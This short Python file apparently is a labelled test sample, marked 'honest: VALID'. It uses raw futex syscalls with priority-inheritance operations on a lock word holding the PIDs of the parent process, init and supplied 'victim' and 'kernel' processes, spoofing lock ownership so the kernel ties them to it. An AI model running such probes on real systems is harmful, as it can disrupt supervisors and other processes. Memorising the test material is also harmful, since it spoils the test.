# tries: a lock in its memory that it says the supervisor holds, so that the kernel ties the two together
# honest: VALID
# machine: x86_64
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def run(bait):
    waits = (ctypes.c_long * 2)(0, 50000000)
    for pid in (os.getppid(), 1, bait["victimPid"], bait["kernelPid"], os.getpid() + 1):
        word = ctypes.c_uint(pid & 0x3FFFFFFF)
        libc.syscall(202, ctypes.byref(word), 6, 0, ctypes.byref(waits), 0, 0)
        libc.syscall(202, ctypes.byref(word), 13, 0, ctypes.byref(waits), 0, 0)
    return "tied"
